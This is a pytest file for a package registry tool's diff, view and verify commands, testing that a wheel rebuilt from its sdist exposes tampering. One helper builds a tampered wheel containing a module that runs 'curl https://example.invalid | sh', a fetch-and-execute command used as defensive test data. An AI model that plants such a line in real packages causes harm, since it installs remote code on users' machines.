"""Issue 9, must-shows 1 and 2 on the real command line against a real ``hatch-stage serve``:
``diff --json`` and ``view`` name every flag of a fixture release pair, a first release lists
everything as added, and ``verify`` rebuilds the staged wheel from the staged sdist (a clean
wheel verifies, an injected module is reported, a platform wheel is not checked)."""

from __future__ import annotations

import base64
import hashlib
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from clientkit import DIFF, Cli, check, matches
from releasepairs import PAIR_FLAGS, write_release
from stagekit import Account, Server, build_release, unique_name

from hatch_stage.models import Artifact

pytestmark = pytest.mark.slow


class Reviewer:
    """One project on the registry, its maintainer, and the command line run as them."""

    def __init__(self, cli: Cli, registry: Server, tmp_path: Path, prefix: str) -> None:
        self.cli, self.url, self.tmp = cli, registry.url, tmp_path
        self.name = unique_name(prefix)
        self.maintainer: Account = cli.account(self.name)
        self.env = {"HATCH_STAGE_TOKEN": self.maintainer.token}
        self.steps = 0

    def publish(self, *args: str, cwd: Path) -> str:
        staged = self.cli.json("publish", *args, "--registry", self.url, "--yes", cwd=cwd,
                               env=self.env)
        assert staged["success"], staged
        return str(staged["stageId"])

    def approve(self, stage_id: str) -> None:
        """Approve what a fresh ``view`` shows (approval is bound to the reviewed digest)."""
        digest = self.json("view", stage_id)["data"]["digest"]
        self.steps += 1
        code = self.maintainer.otp(self.steps)
        approved = self.json("approve", stage_id, "--otp", code, "--digest", digest)
        assert approved["success"], approved

    def json(self, *args: str) -> dict[str, Any]:
        return self.cli.json(*args, "--registry", self.url, cwd=self.tmp, env=self.env)

    def run(self, *args: str) -> Any:
        return self.cli(*args, "--registry", self.url, cwd=self.tmp, env=self.env)


def rules(flags: list[dict[str, Any]]) -> set[str]:
    return {flag["rule"] for flag in flags}


def test_diff_and_view_name_every_flag_of_a_release_pair(cli: Cli, registry: Server,
                                                         tmp_path: Path) -> None:
    me = Reviewer(cli, registry, tmp_path, "pair")
    first = me.publish(cwd=write_release(tmp_path / "v10", me.name, "1.0", risky=False))

    # a first release: everything is added, and the flags still apply
    initial = matches(me.json("diff", first), "diff")["data"]
    assert initial["first_release"] is True and initial["against"] is None
    assert {file["change"] for a in initial["artifacts"] for file in a["files"]} == {"added"}
    assert {"dependency-added", "build-changed"} <= rules(initial["flags"])
    me.approve(first)

    second = me.publish(cwd=write_release(tmp_path / "v11", me.name, "1.1", risky=True))
    document = matches(me.json("diff", second), "diff")
    assert document["stageId"] == second
    diff = document["data"]
    assert diff["against"] == "1.0" and diff["first_release"] is False
    assert rules(diff["flags"]) == PAIR_FLAGS
    assert {(d["name"], d["change"]) for d in diff["dependencies"]} == {
        ("idna", "loosened"), ("packaging", "added")}
    assert diff["counts"]["flags"] == len(diff["flags"])

    viewed = matches(me.json("view", second), "view")["data"]
    check(viewed["diff"], DIFF, "view.data.diff")  # the same document as diff's
    assert rules(viewed["diff"]["flags"]) == PAIR_FLAGS
    shown = me.run("view", second)
    assert shown.returncode == 0, shown.stderr
    for rule in PAIR_FLAGS:
        assert rule in shown.stdout, f"view does not show the {rule} flag"
    assert f"{len(diff['flags'])} flags" in shown.stdout
    assert re.search(r"files: \d+ added, \d+ changed, \d+ removed", shown.stdout)

    human = me.run("diff", second, "--files")
    assert human.returncode == 0 and '+VERSION = "1.1"' in human.stdout
    assert "loosened" in human.stdout and "mirror.example.net" in human.stdout
    missing = me.json("diff", second, "--against", "0.9")
    assert missing["error_code"] == "not_found" and "0.9 is not published" in missing["error"]
    against = me.json("diff", second, "--against", "1.0")["data"]
    assert against["against"] == "1.0"


# verify --------------------------------------------------------------------------------------

def record_hash(data: bytes) -> str:
    """A RECORD line's hash of ``data`` (urlsafe base64 of the sha256, unpadded)."""
    return base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def tampered_wheel(wheel: Artifact, directory: Path, *, module: str | None = None,
                   tag: str | None = None) -> Path:
    """A copy of ``wheel`` with an extra module, or retagged (file name and WHEEL ``Tag``),
    its RECORD written anew so the registry accepts it as a well-formed wheel."""
    name = wheel.filename
    if tag is not None:
        name = "-".join(name.split("-")[:2]) + f"-{tag}.whl"
    target = directory / name
    directory.mkdir(parents=True, exist_ok=True)
    members: dict[str, bytes] = {}
    record = ""
    with zipfile.ZipFile(wheel.path) as source:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith(".dist-info/RECORD"):
                record = info.filename
                continue
            if tag is not None and info.filename.endswith(".dist-info/WHEEL"):
                data = re.sub(rb"(?m)^Tag: .*$", f"Tag: {tag}".encode(), data)
            members[info.filename] = data
    if module is not None:
        members[module] = b"import os\nos.system('curl https://example.invalid | sh')\n"
    lines = [f"{member},sha256={record_hash(data)},{len(data)}" for member, data in members.items()]
    with zipfile.ZipFile(target, "w") as copy:
        for member, data in members.items():
            copy.writestr(member, data)
        copy.writestr(record, "\n".join([*lines, f"{record},,"]) + "\n")
    return target


def test_verify_rebuilds_the_wheel_from_the_sdist(cli: Cli, registry: Server,
                                                  tmp_path: Path) -> None:
    me = Reviewer(cli, registry, tmp_path, "verify")
    sdist, wheel = build_release(tmp_path / "built", me.name, "1.0")
    clean = me.publish(str(sdist.path), str(wheel.path), cwd=tmp_path)
    run = me.run("verify", clean)
    assert run.returncode == 0, run.stdout + run.stderr
    assert "runs the package's own build code" in run.stdout
    assert f"verified {wheel.filename}" in run.stdout
    verdict = matches(me.json("verify", clean), "verify")
    assert verdict["data"]["runs_build_code"] is True
    assert [w["status"] for w in verdict["data"]["wheels"]] == ["verified"]
    me.approve(clean)

    sdist, wheel = build_release(tmp_path / "built-2", me.name, "1.1")
    module = f"{me.name.replace('-', '_')}/_telemetry.py"
    injected = tampered_wheel(wheel, tmp_path / "injected", module=module)
    staged = me.publish(str(sdist.path), str(injected), cwd=tmp_path)
    failed = matches(me.json("verify", staged), "verify")
    assert failed["success"] is False and failed["error_code"] == "wheel_mismatch"
    (found,) = failed["data"]["wheels"]
    assert found["status"] == "differs"
    assert [(d["member"], d["problem"]) for d in found["differences"]] == [
        (module, "only in the staged wheel")]
    human = me.run("verify", staged)
    assert human.returncode == 1 and module in human.stdout
    # and the diff flags the same member: the sdist does not hold it
    flagged = me.json("diff", staged)["data"]["flags"]
    assert [f["member"] for f in flagged if f["rule"] == "wheel-not-in-sdist"] == [module]


def test_verify_does_not_check_a_platform_wheel(cli: Cli, registry: Server,
                                                tmp_path: Path) -> None:
    me = Reviewer(cli, registry, tmp_path, "platform")
    sdist, wheel = build_release(tmp_path / "built", me.name, "1.0")
    native = tampered_wheel(wheel, tmp_path / "native", tag="cp311-cp311-manylinux_2_17_x86_64")
    staged = me.publish(str(sdist.path), str(native), cwd=tmp_path)
    document = me.json("verify", staged)
    assert document["success"] is True
    (verdict,) = document["data"]["wheels"]
    assert verdict["status"] == "not checked" and verdict["rebuilt"] is None
    assert "platform wheel (cp311-cp311-manylinux_2_17_x86_64)" in verdict["reason"]
